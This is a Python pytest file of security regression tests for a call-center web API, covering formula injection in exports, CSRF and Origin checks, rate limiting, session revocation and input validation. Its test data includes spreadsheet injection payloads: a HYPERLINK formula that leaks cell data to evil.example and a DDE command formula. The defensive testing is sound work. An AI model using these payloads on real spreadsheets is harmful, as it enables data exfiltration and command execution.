"""Issue 11: one regression test per finding of the API probe (items 1-16), each failing on
the code before the fix. Items 15 and 16 also have their own files (the schemathesis run,
test_deployment.py)."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import threading
import time
import zipfile
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from starlette.websockets import WebSocketDisconnect

from callcenter.app import create_app
from callcenter.auth import services as auth_services
from callcenter.contacts.services import ContactFilters, ContactService
from callcenter.db import Database
from callcenter.edge import Edge, QueryRedactor
from callcenter.notify.messages import AgentsResynced, CallMissed, WallboardFigures
from callcenter.notify.services import Notifier
from callcenter.settings import PROJECT_ROOT, Settings
from ivr.clock import Clock, FixedClock
from ivr.ports import ContactEvent, EventKind
from tests.callcenter.util import PASSWORD, bearer, ensure_user, token_for
from tests.security.conftest import H, MakeCall
from tests.support import SUITE_CLOCK

API = "/api/v1"
SAME_ORIGIN = {"Origin": "https://testserver"}
EVIL = {"Origin": "http://evil.example"}


@pytest.fixture
def app_settings(db_url: str, clean_users: Database) -> dict[str, Any]:
    """Settings of an app made by the test itself (``make_client``)."""
    return {"database_url": db_url, "ami_enabled": False, "kb_enabled": False}


def make_client(settings: dict[str, Any], clock: Clock = SUITE_CLOCK,
                **overrides: Any) -> TestClient:
    return TestClient(create_app(Settings(**{**settings, **overrides}), clock),
                      base_url="https://testserver")


def login(client: TestClient, username: str, password: str = PASSWORD,
          **headers: str) -> Any:
    return client.post(f"{API}/auth/login", json={"username": username, "password": password},
                       headers=headers)


# -- 1. formula injection into spreadsheets ----------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_item01_exports_never_carry_a_formula(client: TestClient, headers: H,
                                             contacts: ContactService) -> None:
    # a caller's number (caller ID is the caller's to choose) reaches the contacts export
    at = SUITE_CLOCK()
    for n, text in enumerate(FORMULAS):
        contacts.apply(ContactEvent.parse(f"F-{n}", EventKind.CALL_STARTED,
                                    {"caller": text, "channel": "PJSIP/x"}, at=at))
    local = at.astimezone(ZoneInfo("Asia/Shanghai")).date()  # the hotline's days
    params = {"report": "contacts", "from": (local - timedelta(days=1)).isoformat(),
              "to": (local + timedelta(days=1)).isoformat()}
    csv_text = client.get(f"{API}/stats/export", params={**params, "format": "csv"},
                          headers=headers["supervisor"]).text
    for text in FORMULAS:
        assert text not in csv_text.replace("'" + text, "")  # only ever behind an apostrophe
    assert "'=HYPERLINK(" in csv_text  # still readable
    xlsx = client.get(f"{API}/stats/export", params={**params, "format": "xlsx"},
                      headers=headers["supervisor"])
    assert xlsx.status_code == 200, xlsx.text
    sheet = zipfile.ZipFile(io.BytesIO(xlsx.content)).read(
        "xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cells at all
    assert "<f " not in sheet
    assert "'=HYPERLINK(" in sheet.replace("&amp;", "&").replace("&quot;", '"')


# -- 2. callbacks are owner-checked ------------------------------------------------------


def test_item02_agents_cannot_take_over_or_cancel_others_callbacks(
        client: TestClient, headers: H, work: Database) -> None:
    ensure_user(work, "agent2", "agent")
    other = bearer(token_for(work, "agent2", "agent"))
    created = client.post(f"{API}/callbacks", json={"number": "13800004444"},
                          headers=headers["agent"]).json()
    path = f"{API}/callbacks/{created['id']}"
    assert client.post(path, json={"owner": "agent2"}, headers=other).status_code == 200
    # agent1 may neither take it over nor cancel it
    takeover = client.post(path, json={"owner": "agent1"}, headers=headers["agent"])
    assert takeover.status_code == 403, takeover.text
    assert "agent2" in takeover.json()["detail"]
    assert client.post(path, json={"status": "cancelled"},
                       headers=headers["agent"]).status_code == 403
    # nor hand an unowned one to someone else
    free = client.post(f"{API}/callbacks", json={"number": "13800005555"},
                       headers=headers["agent"]).json()
    assert client.post(f"{API}/callbacks/{free['id']}", json={"owner": "agent2"},
                       headers=headers["agent"]).status_code == 403
    # the owner and a supervisor may
    assert client.post(path, json={"status": "done"}, headers=other).status_code == 200
    reassigned = client.post(f"{API}/callbacks/{free['id']}", json={"owner": "agent2"},
                             headers=headers["supervisor"])
    assert reassigned.status_code == 200
    assert reassigned.json()["owner"] == "agent2"


# -- 3. no invented contacts ---------------------------------------------------------------


def test_item03_work_items_cannot_invent_contacts(client: TestClient, headers: H,
                                                  work: Database, contacts: ContactService,
                                                  make_call: MakeCall) -> None:
    for path, body in ((f"{API}/tickets", {"kind": "complaint", "caller": "13800003333"}),
                       (f"{API}/callbacks", {"number": "13800003333"})):
        invented = client.post(path, json={**body, "linkedid": "x-new"},
                               headers=headers["agent"])
        assert invented.status_code == 422, invented.text
        assert "x-new" in invented.json()["detail"]
        formula = client.post(path, json={**body, "linkedid": "=1+1"}, headers=headers["agent"])
        assert formula.status_code == 422
    assert contacts.get_by_linkedid("x-new") is None
    assert contacts.search(ContactFilters())[0] == 0
    real = make_call("L-real")
    assert client.post(f"{API}/tickets", json={"kind": "complaint", "caller": "13800003333",
                                               "linkedid": real},
                       headers=headers["agent"]).status_code == 201
    assert client.post(f"{API}/callbacks", json={"number": "13800003333", "linkedid": real},
                       headers=headers["agent"]).status_code == 201


# -- 4. the login limit --------------------------------------------------------------------


def test_item04_parallel_wrong_passwords_cannot_race_the_limit(
        app_settings: dict[str, Any], clean_users: Database,
        monkeypatch: pytest.MonkeyPatch) -> None:
    ensure_user(clean_users, "agent01", "agent")
    running = 0
    most = 0
    lock = threading.Lock()
    verify = auth_services.verify_password

    def slow_verify(password_hash: str, password: str) -> bool:
        nonlocal running, most
        with lock:
            running += 1
            most = max(most, running)
        time.sleep(0.15)  # argon2's cost with production parameters, roughly
        try:
            return verify(password_hash, password)
        finally:
            with lock:
                running -= 1

    monkeypatch.setattr(auth_services, "verify_password", slow_verify)
    with make_client(app_settings, login_max_failures=5, login_max_concurrent=2) as client:
        statuses: list[int] = []

        def attempt() -> None:
            statuses.append(login(client, "agent01", "wrong-password-x").status_code)

        threads = [threading.Thread(target=attempt) for _ in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
    assert statuses.count(401) == 5, statuses  # the limit, not 30
    assert statuses.count(429) == 25
    assert most <= 2  # password checks at once, bounded


def test_item04_failures_elsewhere_do_not_lock_a_user_out(app_settings: dict[str, Any],
                                                         clean_users: Database) -> None:
    ensure_user(clean_users, "agent01", "agent")
    settings = Settings(**app_settings, login_max_failures=5)
    app = create_app(settings, SUITE_CLOCK)
    with TestClient(app, base_url="https://testserver", client=("192.0.2.66", 5000)) as attacker, \
            TestClient(app, base_url="https://testserver", client=("192.0.2.10", 5000)) as desk:
        for _ in range(5):
            assert login(attacker, "agent01", "wrong-password-x").status_code == 401
        assert login(attacker, "agent01").status_code == 429  # the attacker is stopped
        assert login(desk, "agent01").status_code == 200  # the agent at her desk is not
        # unknown user names from one address do not lock real users out of it
        for n in range(5):
            assert login(desk, f"nobody{n}", "wrong-password-x").status_code == 401
        assert login(desk, "agent01").status_code == 200


# -- 5. the WebSocket ends with its session -----------------------------------------------


def _ended(ws: Any) -> int:
    """The close code of a socket that must end (messages before it fail the test)."""
    try:
        message = ws.receive_json()
    except WebSocketDisconnect as closed:
        return int(closed.code)
    raise AssertionError(f"delivered after the session ended: {message}")


@pytest.mark.parametrize("how", ["logout", "deactivation", "password", "expiry"])
def test_item05_websocket_closes_when_the_session_ends(app_settings: dict[str, Any],
                                                      clean_users: Database, how: str) -> None:
    ensure_user(clean_users, "sup5", "supervisor")
    admin = bearer(token_for(clean_users, "admin5", "admin"))
    # a clock the test moves: the session expires when the test says so, not when a loaded
    # machine happens to take longer than a short lifetime between two steps
    clock = FixedClock(SUITE_CLOCK())
    with make_client(app_settings, clock, session_ttl_hours=12, ws_session_check_s=0.2,
                     stats_wallboard_interval_s=3600) as client:  # only the test publishes
        session = login(client, "sup5").json()
        token = session["access_token"]
        expires = datetime.fromisoformat(session["expires_at"])
        client.cookies.clear()
        notifier: Notifier = client.app.state.notifier  # type: ignore[attr-defined]
        with client.websocket_connect(f"{API}/ws?topics=wallboard",
                                      headers=bearer(token)) as ws:
            assert ws.receive_json()["topic"] == "hello"
            notifier.wallboard(WallboardFigures(figures={"n": 1}))
            assert ws.receive_json()["payload"] == {"n": 1}
            if how == "logout":
                assert client.post(f"{API}/auth/logout",
                                   headers=bearer(token)).status_code == 204
            elif how == "deactivation":
                assert client.patch(f"{API}/users/sup5", json={"active": False},
                                    headers=admin).status_code == 200
            elif how == "password":
                assert client.patch(f"{API}/users/sup5", json={"password": "new-secret-77"},
                                    headers=admin).status_code == 200
            else:
                clock.set(expires + timedelta(seconds=1))
                time.sleep(0.6)  # the connection's session check runs every 0.2 s
            notifier.wallboard(WallboardFigures(figures={"n": 2}))  # not delivered any more
            assert _ended(ws) == 4401
        with pytest.raises(WebSocketDisconnect) as refused, \
                client.websocket_connect(f"{API}/ws", headers=bearer(token)) as ws:
            ws.receive_json()
        assert refused.value.code == 4401


# -- 6. exact topics -------------------------------------------------------------------------


async def test_item06_topics_are_exact_names() -> None:
    bus = Notifier(SUITE_CLOCK)
    mine = bus.subscribe("calls.agent01", "agents")
    bus.publish("calls.agent01.b", CallMissed(linkedid="secret"))
    bus.publish("agents.agent01", AgentsResynced(resyncs=1))
    bus.publish("calls.agent01", CallMissed(linkedid="mine"))
    message = await mine.get(timeout=1)
    assert message.topic == "calls.agent01"
    with pytest.raises(TimeoutError):
        await mine.get(timeout=0.05)


def test_item06_user_names_cannot_extend_a_topic(client: TestClient, headers: H) -> None:
    response = client.post(f"{API}/users", json={
        "username": "agent01.b", "password": "long-enough-pw-1", "role": "agent"},
        headers=headers["admin"])
    assert response.status_code == 422
    assert "username" in response.json()["detail"]


# -- 7. no tokens in URLs or script-readable storage -------------------------------------


def test_item07_no_token_in_the_url(client: TestClient, headers: H) -> None:
    token = headers["supervisor"]["Authorization"].split()[1]
    client.cookies.clear()
    with pytest.raises(WebSocketDisconnect) as closed, \
            client.websocket_connect(f"{API}/ws?token={token}&topics=wallboard") as ws:
        ws.receive_json()
    assert closed.value.code == 4401
    # the pages keep nothing a script could read and put nothing in URLs
    for name in ("stats/static/stats.js", "stats/static/wallboard.js",
                 "stats/static/dashboard.js", "web/static/console.js"):
        source = (PROJECT_ROOT / "callcenter" / name).read_text()
        for forbidden in ("sessionStorage", "localStorage", "token=", "Authorization",
                          "caller="):
            assert forbidden not in source, (name, forbidden)


def test_item07_caller_numbers_stay_out_of_urls_and_logs(client: TestClient, headers: H,
                                                          make_call: MakeCall) -> None:
    make_call("L-7", caller="13912345678")
    found = client.post(f"{API}/contacts/search", json={"caller": "13912345678"},
                        headers=headers["supervisor"])
    assert found.status_code == 200, found.text
    assert [c["linkedid"] for c in found.json()["items"]] == ["L-7"]
    record = logging.LogRecord(
        "uvicorn.access", 20, __file__, 1, '%s - "%s %s HTTP/%s" %d',
        ("127.0.0.1:5", "GET", "/api/v1/contacts?caller=13912345678&limit=5", "1.1", 200),
        None)
    QueryRedactor().filter(record)
    assert "13912345678" not in record.getMessage()
    assert "/api/v1/contacts?caller=…&limit=…" in record.getMessage()


# -- 8. a password reset ends old sessions ------------------------------------------------


def test_item08_password_reset_revokes_sessions(client: TestClient, headers: H,
                                                clean_users: Database) -> None:
    old = bearer(token_for(clean_users, "agent8", "agent"))
    assert client.get(f"{API}/auth/me", headers=old).status_code == 200
    reset = client.patch(f"{API}/users/agent8", json={"password": "another-secret-8"},
                         headers=headers["admin"])
    assert reset.status_code == 200, reset.text
    assert client.get(f"{API}/auth/me", headers=old).status_code == 401
    client.cookies.clear()
    assert login(client, "agent8", "another-secret-8").status_code == 200


# -- 9. no 500 from input ------------------------------------------------------------------


def test_item09_deep_json_is_422_before_any_login(client: TestClient) -> None:
    deep = "[" * 5000 + "]" * 5000
    for path in (f"{API}/auth/login", f"{API}/tickets"):
        response = client.post(path, content=deep, headers={"Content-Type": "application/json"})
        assert response.status_code == 422, (path, response.status_code)
        assert "嵌套" in response.json()["detail"]
    nested: object = "x"
    for _ in range(40):  # deeper than any request of ours, far from a RecursionError
        nested = [nested]
    response = client.post(f"{API}/auth/login", json={"username": nested, "password": "p"})
    assert response.status_code == 422


@pytest.mark.parametrize(("method", "path", "body"), [
    ("GET", "/contacts?offset=100000000000000000000", None),
    ("GET", "/contacts/100000000000000000000", None),
    ("POST", "/callbacks/100000000000000000000", {"status": "done"}),
    ("POST", "/contacts/search", {"offset": 10**20}),
    # past PostgreSQL's int4 ids (the bound was 2**63 - 1: a 500, integer out of range)
    ("GET", f"/contacts/{2**31}", None),
    ("GET", f"/notices/{2**31}", None),
    ("GET", f"/quality/reviews/{2**31}", None),
    ("GET", f"/recordings/{2**31}/audio", None),
    ("GET", "/contacts?from=0001-01-01T00:00:00%2B14:00", None),
    ("GET", "/contacts?to=9999-12-31T23:59:59-14:00", None),
    ("GET", "/stats/summary?from=9999-12-30&to=9999-12-31", None),
    ("GET", "/stats/summary?from=0001-01-01&to=0001-01-02", None),
    ("GET", "/stats/export?from=0001-01-01T00:00:00%2B14:00&to=2026-01-01", None),
])
def test_item09_out_of_range_input_is_422_with_a_reason(client: TestClient, headers: H,
                                                        method: str, path: str,
                                                        body: object) -> None:
    response = client.request(method, API + path, json=body, headers=headers["admin"])
    assert response.status_code == 422, response.text
    assert response.json()["detail"]


def test_item09_a_nul_character_is_422_not_a_database_error(client: TestClient,
                                                            headers: H) -> None:
    # found by schemathesis: PostgreSQL cannot store NUL, and the login's user lookup failed
    # with a 500 before the edge refused it
    same_site = {"Origin": "https://testserver"}
    form = client.post(f"{API}/auth/login", data={"username": "\x00", "password": "0"},
                       headers=same_site)
    as_json = client.post(f"{API}/auth/login", json={"username": "a\u0000b", "password": "0"},
                          headers=same_site)
    query = client.get(f"{API}/contacts?caller=%00", headers=headers["admin"])
    path = client.get(f"{API}/tickets/T%00", headers=headers["admin"])
    for response in (form, as_json, query, path):
        assert response.status_code == 422, response.text
        assert "空字符" in response.json()["detail"]


# -- 10. request bodies are limited ----------------------------------------------------------


def test_item10_large_bodies_are_refused_before_they_are_read(client: TestClient) -> None:
    big = b'{"username": "' + b"x" * (2 * 1024 * 1024) + b'", "password": "y"}'
    response = client.post(f"{API}/auth/login", content=big,
                           headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert "请求体过大" in response.json()["detail"]

    # a declared length over the limit: answered without reading a byte
    async def never(*_: Any) -> None:
        raise AssertionError("the app must not run")

    async def receive() -> dict[str, Any]:
        raise AssertionError("the body must not be read")

    sent: list[dict[str, Any]] = []

    async def send(message: Any) -> None:
        sent.append(message)

    edge = Edge(never, max_body_bytes=1024)
    scope = {"type": "http", "method": "POST", "path": "/api/v1/auth/login",
             "headers": [(b"content-length", b"104857600"),
                         (b"content-type", b"application/json")]}
    asyncio.run(edge(scope, receive, send))
    assert sent[0]["status"] == 413


# -- 11. Origin check ----------------------------------------------------------------------


def test_item11_state_changes_need_our_origin(client: TestClient, clean_users: Database) -> None:
    ensure_user(clean_users, "admin11", "admin")
    assert login(client, "admin11").status_code == 200  # the session cookie is set
    evil = client.post(f"{API}/queues/push", headers=EVIL)
    assert evil.status_code == 403
    assert "evil.example" in evil.json()["detail"]
    assert client.post(f"{API}/queues/push").status_code == 403  # a cookie and no Origin
    assert client.post(f"{API}/queues/push", headers=SAME_ORIGIN).status_code == 200
    assert client.post(f"{API}/queues/push",
                       headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
    # the form login from another site, and a socket opened by another site's page
    client.cookies.clear()
    form = client.post(f"{API}/auth/login", data={"username": "admin11", "password": PASSWORD},
                       headers=EVIL)
    assert form.status_code == 403
    token = login(client, "admin11").json()["access_token"]
    with pytest.raises(WebSocketDisconnect) as closed, \
            client.websocket_connect(f"{API}/ws", headers={**EVIL, **bearer(token)}) as ws:
        ws.receive_json()
    assert closed.value.code == 4403
    # a bearer token is not sent by browsers on their own: no Origin needed
    client.cookies.clear()
    assert client.post(f"{API}/queues/push", headers=bearer(token)).status_code == 200


# -- 12. password strength -------------------------------------------------------------------


@pytest.mark.parametrize(("password", "reason"), [
    ("12345678", "至少需要10个字符"),
    (" " * 12, "空白"),
    ("admin12admin12", "用户名"),
    ("aaaaaaaaaaaa", "不同的字符"),
    ("password123", "常见"),
    ("1234567890", "常见"),
])
def test_item12_weak_passwords_are_refused(client: TestClient, headers: H, password: str,
                                           reason: str) -> None:
    created = client.post(f"{API}/users", json={"username": "admin12", "password": password,
                                                "role": "admin"}, headers=headers["admin"])
    assert created.status_code == 422, created.text
    assert reason in created.json()["detail"], created.json()
    changed = client.patch(f"{API}/users/agent1", json={"password": password.replace(
        "admin12", "agent1")}, headers=headers["admin"])
    assert changed.status_code == 422


# -- 13. headers on every page ---------------------------------------------------------------


@pytest.mark.parametrize("path", ["/stats/dashboard", "/stats/wallboard", "/console",
                                  "/stats/static/stats.js", f"{API}/health",
                                  f"{API}/auth/me"])
def test_item13_every_response_has_the_security_headers(client: TestClient,
                                                        path: str) -> None:
    response = client.get(path)
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp
    assert "default-src 'self'" in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"


# -- 14. integrity -------------------------------------------------------------------------


def test_item14_owners_are_active_users(client: TestClient, headers: H, work: Database) -> None:
    ticket = client.post(f"{API}/tickets", json={"kind": "complaint", "caller": "13800003333"},
                         headers=headers["agent"]).json()
    callback = client.post(f"{API}/callbacks", json={"number": "13800004444"},
                           headers=headers["agent"]).json()
    ensure_user(work, "gone14", "agent")
    client.patch(f"{API}/users/gone14", json={"active": False}, headers=headers["admin"])
    for owner in ("nosuchuser", "gone14"):
        t = client.post(f"{API}/tickets/{ticket['ticket_no']}/owner", json={"owner": owner},
                        headers=headers["supervisor"])
        assert t.status_code == 422, t.text
        assert owner in t.json()["detail"]
        c = client.post(f"{API}/callbacks/{callback['id']}", json={"owner": owner},
                        headers=headers["supervisor"])
        assert c.status_code == 422, c.text


def test_item14_admin_answers_say_what_is_stored(client: TestClient, headers: H,
                                                 clean_users: Database) -> None:
    missing = client.put(f"{API}/agents/nosuchuser/skills", json={"skills": {}},
                         headers=headers["admin"])
    assert missing.status_code == 404
    ensure_user(clean_users, "agent14", "agent")
    client.patch(f"{API}/users/agent14", json={"active": False}, headers=headers["admin"])
    renamed = client.patch(f"{API}/users/agent14", json={"display_name": "小王"},
                           headers=headers["admin"])
    assert renamed.json()["active"] is False
    listed = {u["username"]: u["active"] for u in
              client.get(f"{API}/users", headers=headers["admin"]).json()}
    assert listed["agent14"] is False


def test_item14_agents_read_only_their_own_skills_and_notes(
        client: TestClient, headers: H, make_call: MakeCall) -> None:
    assert client.get(f"{API}/agents/expert1/skills",
                      headers=headers["agent"]).status_code == 403
    assert client.get(f"{API}/agents/agent1/skills", headers=headers["agent"]).status_code == 200
    assert client.get(f"{API}/agents/agent1/skills",
                      headers=headers["supervisor"]).status_code == 200
    linkedid = make_call("L-14", agents=("agent1", "expert1"))
    desk = client.app.state.runtime.desk  # type: ignore[attr-defined]
    desk.save_note(linkedid, "expert1", "专家的判断：需补充材料", None)
    desk.save_note(linkedid, "agent1", "已转专家", None)
    mine = client.get(f"{API}/calls/{linkedid}/notes", headers=headers["agent"]).json()
    assert [n["username"] for n in mine] == ["agent1"]
    everyone = client.get(f"{API}/calls/{linkedid}/notes", headers=headers["supervisor"]).json()
    assert {n["username"] for n in everyone} == {"agent1", "expert1"}


# -- 15. the OpenAPI document (also tests/security/test_schemathesis.py) -------------------


def test_item15_openapi_describes_errors_as_they_are(client: TestClient, headers: H) -> None:
    spec = client.get("/openapi.json").json()
    assert "HTTPValidationError" not in json.dumps(spec)
    problem = spec["components"]["schemas"]["Problem"]
    assert problem["properties"]["detail"]["type"] == "string"
    summary = spec["paths"][f"{API}/stats/summary"]["get"]
    required = {p["name"]: p["required"] for p in summary["parameters"]}
    assert required["from"] is True
    assert required["to"] is True
    for code in ("401", "403", "422"):
        assert code in summary["responses"]
    assert "429" in spec["paths"][f"{API}/auth/login"]["post"]["responses"]
    assert "404" in spec["paths"][f"{API}/tickets/{{ticket_no}}"]["get"]["responses"]
    assert "409" in spec["paths"][f"{API}/tickets/{{ticket_no}}/status"]["post"]["responses"]
    assert "413" in spec["paths"][f"{API}/tickets"]["post"]["responses"]
    bad = client.get(f"{API}/stats/summary", headers=headers["supervisor"])
    assert bad.status_code == 422
    body = bad.json()
    assert isinstance(body["detail"], str)
    assert "缺少“from”" in body["detail"]
    assert body["errors"][0]["loc"] == ["query", "from"]


# -- 16. defaults that must not reach production (more in test_deployment.py) -----------


def test_item16_ami_account_has_only_what_the_bridge_uses() -> None:
    conf = (PROJECT_ROOT / "ivr/pbx/asterisk/manager.conf").read_text()
    sections: dict[str, dict[str, set[str]]] = {}
    name = ""
    for line in conf.splitlines():
        if line.startswith("["):
            name = line.strip("[]")
        elif line.split("=")[0].strip() in ("read", "write"):
            key, value = line.split("=", 1)
            sections.setdefault(name, {})[key.strip()] = {c.strip() for c in value.split(",")}
    bridge = sections["@@AMI_USER@@"]
    read, write = bridge["read"], bridge["write"]
    assert "all" not in read | write
    assert not {"originate", "command"} & write
    assert write == {"system", "call", "agent", "agi", "config"}
    # the Originate account (hold, supervisors' phones, the callback dialler, which reads the
    # call class to follow its legs) may write nothing else (with "system" an Originate could
    # run System() or Exec(): tests/callcenter/test_hold_pbx.py, tests/security/test_deployment.py)
    assert sections["@@AMI_DIAL_USER@@"] == {"read": {"system", "call"}, "write": {"originate"}}

